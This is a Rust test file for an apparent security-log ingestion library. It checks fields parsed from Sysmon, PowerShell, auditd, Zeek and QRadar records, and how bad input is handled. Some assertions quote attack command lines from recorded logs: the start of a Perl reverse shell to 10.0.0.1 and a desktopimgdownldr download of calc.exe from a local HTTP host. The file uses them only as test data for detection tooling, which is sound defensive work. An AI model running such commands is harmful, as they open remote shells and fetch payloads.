//! Field values of specific real records, per format (fixtures copied from ../shared/data
//! into tests/fixtures), and bad input handled without loss of the rest.

use std::path::PathBuf;

use whoiswatch_event::{Event, FieldId};
use whoiswatch_ingest::{read_all, Consumer, ErrorKind, Input, Options, ParseError, RunSummary};

#[derive(Default)]
struct Collect {
    events: Vec<Event>,
    errors: Vec<ParseError>,
}

impl Consumer for Collect {
    fn event(&mut self, event: Event) {
        self.events.push(event);
    }
    fn error(&mut self, error: &ParseError) {
        self.errors.push(error.clone());
    }
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures")
        .join(name)
}

fn read_paths(paths: Vec<PathBuf>) -> (RunSummary, Collect) {
    let options = Options {
        threads: 1,
        ..Options::default()
    };
    let inputs: Vec<Input> = paths.into_iter().map(Input::File).collect();
    let (summary, mut consumers) = read_all(&inputs, &options, Collect::default);
    (summary, consumers.remove(0))
}

fn read(name: &str) -> Vec<Event> {
    read_paths(vec![fixture(name)]).1.events
}

fn text(event: &Event, id: FieldId) -> String {
    event.get(id).map(|v| v.to_string()).unwrap_or_default()
}

#[test]
fn sysmon3_in_three_dialects_agrees() {
    for name in ["sysmon3_evtx-crate.xml", "sysmon3_evtx-crate.json"] {
        let events = read(name);
        assert_eq!(events.len(), 1, "{name}");
        let e = &events[0];
        assert_eq!(e.get_i64(FieldId::EventId), Some(3));
        assert_eq!(
            text(e, FieldId::Image),
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
        );
        assert_eq!(text(e, FieldId::DestinationIp), "10.23.123.11");
        assert_eq!(e.get_i64(FieldId::DestinationPort), Some(443));
        assert_eq!(
            text(e, FieldId::ProcessGuid),
            "A57649D1-A03B-61A6-2F23-8D0000000000"
        );
        assert_eq!(text(e, FieldId::NetworkDirection), "outbound");
        assert_eq!(text(e, FieldId::DeviceTime), "2021-11-30T22:05:50.864921Z");
        assert_eq!(e.category.category, Some("network_connection"));
        assert_eq!(
            e.log_source_type_name(),
            "Microsoft Windows Security Event Log"
        );
    }
    let e = &read("sysmon3_otrf-nxlog.json")[0];
    assert_eq!(
        text(e, FieldId::ProcessGuid),
        "B34BC01C-2271-5F69-4900-000000000900"
    );
    assert_eq!(e.get_i64(FieldId::DestinationPort), Some(443));
    assert_eq!(text(e, FieldId::Hostname), "WORKSTATION5.theshire.local");
    assert_eq!(text(e, FieldId::DeviceTime), "2020-09-21T23:26:06.271Z");
}

#[test]
fn sysmon22_answers_unwrap_mapped_addresses() {
    let e = &read("sysmon22_otrf-nxlog.json")[0];
    assert_eq!(text(e, FieldId::DnsQuery), "arc.msn.com");
    assert_eq!(
        text(e, FieldId::DnsAnswers),
        "arc.msn.com.nsatc.net,52.179.129.229"
    );
    assert_eq!(e.category.category, Some("dns_query"));
}

/// PowerShell 4103 (OTRF, NXLog): its `Payload` event data stays a field of that name;
/// the payload field is the record as read.
#[test]
fn powershell_4103_payload_is_event_data() {
    let e = &read("ps4103_otrf-nxlog.json")[0];
    assert_eq!(e.category.category, Some("ps_module"));
    let data = e
        .extra_fields()
        .find(|(name, _)| *name == "Payload")
        .map(|(_, v)| v.to_string());
    assert_eq!(
        data.as_deref(),
        Some("CommandInvocation(Get-Date): \"Get-Date\"\n")
    );
    assert!(
        text(e, FieldId::Payload).starts_with("{\"SourceName\":\"Microsoft-Windows-PowerShell\"")
    );
    let context = e.extra_fields().find(|(name, _)| *name == "ContextInfo");
    assert!(context.is_some_and(|(_, v)| v.to_string().contains("Host Application = C:\\Windows")));
}

#[test]
fn powershell_4104_and_sysmon1() {
    let e = &read("ps4104_evtx-crate.xml")[0];
    assert!(
        text(e, FieldId::ScriptBlockText).starts_with("$a = [System.Activator]::CreateInstance")
    );
    assert_eq!(
        text(e, FieldId::ScriptBlockId),
        "f7f7a3a7-9fc0-4e60-960a-df716d95b851"
    );
    assert_eq!(e.category.category, Some("ps_script"));
    let e = &read("sysmon1_evtx-crate.xml")[0];
    assert_eq!(
        text(e, FieldId::Image),
        r"C:\Windows\System32\desktopimgdownldr.exe"
    );
    assert!(text(e, FieldId::CommandLine)
        .contains("/lockscreenurl:http://192.168.158.128:8000/calc.exe"));
    assert_eq!(e.category.category, Some("process_creation"));
}

#[test]
fn auditd_execve_connect_and_long_arguments() {
    let e = &read("record-execve.txt")[0];
    assert_eq!(text(e, FieldId::Image), "/usr/bin/whoami");
    assert_eq!(text(e, FieldId::Username), "user");
    assert_eq!(text(e, FieldId::Hostname), "work");
    assert_eq!(text(e, FieldId::CurrentDirectory), "/home/user/tmp");
    assert_eq!(e.category.category, Some("process_creation"));
    let events = read("record-connect.txt");
    assert_eq!(events.len(), 2);
    assert_eq!(text(&events[0], FieldId::DestinationIp), "127.0.0.1");
    assert_eq!(events[0].get_i64(FieldId::DestinationPort), Some(11211));
    assert_eq!(text(&events[1], FieldId::DestinationIp), "::1");
    let e = &read("record-perl-reverse-shell.txt")[0];
    assert!(
        text(e, FieldId::CommandLine).starts_with("perl -e use Socket;$i=\"10.0.0.1\";$p=1234;")
    );
    let e = &read("record-execve-long.txt")[0];
    let command = text(e, FieldId::CommandLine);
    assert!(command.starts_with("/bin/echo baaaa"), "{}", &command[..40]);
    assert_eq!(command.len(), "/bin/echo ".len() + 8192);
}

#[test]
fn auditd_interleaved_records_are_grouped() {
    let events = read("shell-proc-trace-reordered.txt");
    assert_eq!(events.len(), 9);
    let execs: Vec<String> = events
        .iter()
        .filter(|e| e.category.category == Some("process_creation"))
        .map(|e| text(e, FieldId::Image))
        .collect();
    assert_eq!(execs.len(), 4, "{execs:?}");
}

#[test]
fn zeek_tsv_and_json() {
    let e = &read("zeek_dns_tsv_zed.log")[0];
    assert_eq!(text(e, FieldId::DnsQuery), "ise.wrccdc.org");
    assert_eq!(
        text(e, FieldId::DnsAnswers),
        "ise.wrccdc.cpp.edu,134.71.3.16"
    );
    assert_eq!(text(e, FieldId::DeviceTime), "2018-03-24T17:15:20.865716Z");
    let j = &read("zeek_dns_json-streaming_zed.json")[0];
    assert_eq!(text(j, FieldId::DnsQuery), text(e, FieldId::DnsQuery));
    assert_eq!(text(j, FieldId::SourceIp), "10.47.1.100");
    let c = &read("zeek_conn_otrf-json.log")[0];
    assert_eq!(c.get_i64(FieldId::DestinationPort), Some(53));
    assert_eq!(text(c, FieldId::Hostname), "bobs.bigwheel.local");
    assert_eq!(c.category.service, Some("conn"));
    let s = &read("zeek_ssl_tsv_zed.log")[0];
    assert_eq!(s.get_i64(FieldId::DestinationPort), Some(443));
}

fn temp_file(name: &str, bytes: &[u8]) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("whoiswatch-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn bad_input_is_reported_and_the_rest_is_read() {
    let good = std::fs::read_to_string(fixture("sysmon3_otrf-nxlog.json")).unwrap();
    let mut mixed = String::new();
    mixed.push_str(good.trim_end());
    mixed.push_str("\n{\"EventID\": 3, \"Channel\": \"x\"\n");
    mixed.push_str(good.trim_end());
    mixed.push('\n');
    let mut bytes = mixed.into_bytes();
    bytes.extend_from_slice(b"{\"a\": \"\xff\xfe\"}\n");
    let path = temp_file("mixed.json", &bytes);
    let (summary, collected) = read_paths(vec![path]);
    assert_eq!(collected.events.len(), 2);
    assert_eq!(summary.skipped(), 2);
    assert_eq!(
        collected.errors[0]
            .origin
            .to_string()
            .rsplit(':')
            .next()
            .unwrap(),
        "line 2"
    );
    // The bad byte is named (the SIMD check finds the line invalid, the standard
    // library's says where).
    assert_eq!(collected.errors[1].reason, "invalid UTF-8 at byte 7");

    let huge = format!(
        "{{\"msg\": \"{}\"}}\n{{\"msg\": \"ok\"}}\n",
        "x".repeat(10 * 1024 * 1024)
    );
    let path = temp_file("huge.json", huge.as_bytes());
    let options = Options {
        threads: 1,
        max_record_bytes: 1024 * 1024,
        ..Options::default()
    };
    let (summary, consumers) = read_all(&[Input::File(path)], &options, Collect::default);
    assert_eq!(consumers[0].events.len(), 1);
    assert_eq!(summary.errors_by_kind().get(&ErrorKind::TooLong), Some(&1));

    // An over-long line that lies wholly inside the read buffer: the same error, with
    // its line number, and the lines around it read.
    let long = format!(
        "{{\"a\":1}}\n{{\"msg\": \"{}\"}}\r\n{{\"a\":2}}\n",
        "x".repeat(100)
    );
    let path = temp_file("long-line.json", long.as_bytes());
    let options = Options {
        threads: 1,
        max_record_bytes: 64,
        ..Options::default()
    };
    let (summary, consumers) = read_all(&[Input::File(path)], &options, Collect::default);
    assert_eq!(consumers[0].events.len(), 2);
    let errors = &consumers[0].errors;
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].kind, ErrorKind::TooLong);
    assert_eq!(
        errors[0].origin.position,
        whoiswatch_event::Position::Line(2)
    );
    assert_eq!(summary.errors_by_kind().get(&ErrorKind::TooLong), Some(&1));

    let garbage: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2654435761u32) >> 24) as u8)
        .collect();
    let (summary, collected) = read_paths(vec![
        temp_file("garbage.bin", &garbage),
        temp_file("empty.log", b""),
        PathBuf::from("/nonexistent/file.log"),
    ]);
    assert!(collected.events.is_empty());
    assert_eq!(summary.files.len(), 3);
    assert_eq!(summary.errors_by_kind().get(&ErrorKind::Io), Some(&1));
}

#[test]
fn truncated_gzip_keeps_what_was_read() {
    use std::io::Write;
    let line = std::fs::read_to_string(fixture("sysmon3_otrf-nxlog.json")).unwrap();
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    for _ in 0..2000 {
        encoder.write_all(line.trim_end().as_bytes()).unwrap();
        encoder.write_all(b"\n").unwrap();
    }
    let compressed = encoder.finish().unwrap();
    let cut = &compressed[..compressed.len() * 2 / 3];
    let (summary, collected) = read_paths(vec![temp_file("cut.json.gz", cut)]);
    assert!(
        collected.events.len() > 100 && collected.events.len() < 2000,
        "{}",
        collected.events.len()
    );
    assert_eq!(summary.errors_by_kind().get(&ErrorKind::Io), Some(&1));
}

#[test]
fn auditd_event_without_eoe_is_kept_with_a_warning() {
    let log = "type=SYSCALL msg=audit(1.0:7): arch=c000003e syscall=42 success=yes exe=\"/usr/bin/python3\" pid=5\ntype=SOCKADDR msg=audit(1.0:7): saddr=0200002BC0002F3B0000000000000000\ntype=SYSCALL msg=audit(2.0:8): arch=c000003e syscall=59 exe=\"/usr/bin/whois\"\ntype=EOE msg=audit(2.0:8):\n";
    let (summary, collected) = read_paths(vec![temp_file("noeoe.log", log.as_bytes())]);
    assert_eq!(collected.events.len(), 2);
    assert_eq!(
        summary.errors_by_kind().get(&ErrorKind::MissingEoe),
        Some(&1)
    );
    let connect = collected
        .events
        .iter()
        .find(|e| e.get_i64(FieldId::DestinationPort) == Some(43))
        .unwrap();
    assert_eq!(text(connect, FieldId::DestinationIp), "192.0.47.59");
}

#[test]
fn zeek_row_disagreeing_with_header_is_skipped() {
    let mut text = std::fs::read_to_string(fixture("zeek_dns_tsv_zed.log")).unwrap();
    text.push_str("1521911720.1\tC\t10.0.0.1\n");
    let (summary, collected) = read_paths(vec![temp_file("bad.log", text.as_bytes())]);
    assert_eq!(collected.events.len(), 1);
    assert_eq!(
        summary.errors_by_kind().get(&ErrorKind::HeaderMismatch),
        Some(&1)
    );
}

/// With an [`whoiswatch_ingest::EventFilter`], QRadar JSON lines it rejects come with
/// only the fields it reads; lines it wants, and lines of other formats, come whole.
#[test]
fn an_event_filter_gets_partial_events_only_where_it_says_no() {
    #[derive(Debug)]
    struct PortOnly;
    impl whoiswatch_ingest::EventFilter for PortOnly {
        fn reads(&self) -> &[FieldId] {
            &[FieldId::DestinationPort]
        }
        fn wants(&self, partial: &Event) -> bool {
            partial.get_i64(FieldId::DestinationPort) == Some(43)
        }
    }
    let lines = concat!(
        r#"{"starttime": 1795519800000, "sourceip": "10.0.0.10", "destinationport": 43, "logsourceid": 7}"#,
        "\n",
        r#"{"starttime": 1795519800000, "sourceip": "10.0.0.11", "destinationport": 80, "logsourceid": 7}"#,
        "\n",
    );
    let path = temp_file("qradar-filter.json", lines.as_bytes());
    let options = Options {
        threads: 1,
        filter: Some(std::sync::Arc::new(PortOnly)),
        ..Options::default()
    };
    let inputs = [
        Input::File(path),
        Input::File(fixture("sysmon3_otrf-nxlog.json")),
    ];
    let (summary, consumers) = read_all(&inputs, &options, Collect::default);
    let events = &consumers[0].events;
    assert_eq!(summary.files.iter().map(|f| f.events).sum::<u64>(), 3);
    // Wanted: whole, payload included.
    assert_eq!(text(&events[0], FieldId::SourceIp), "10.0.0.10");
    assert!(events[0].has(FieldId::Payload));
    // Rejected: the port alone.
    assert_eq!(text(&events[1], FieldId::DestinationPort), "80");
    assert!(!events[1].has(FieldId::SourceIp) && !events[1].has(FieldId::Payload));
    // Another format: whole whatever the filter says.
    assert!(events[2].has(FieldId::Image) && events[2].has(FieldId::Payload));
}
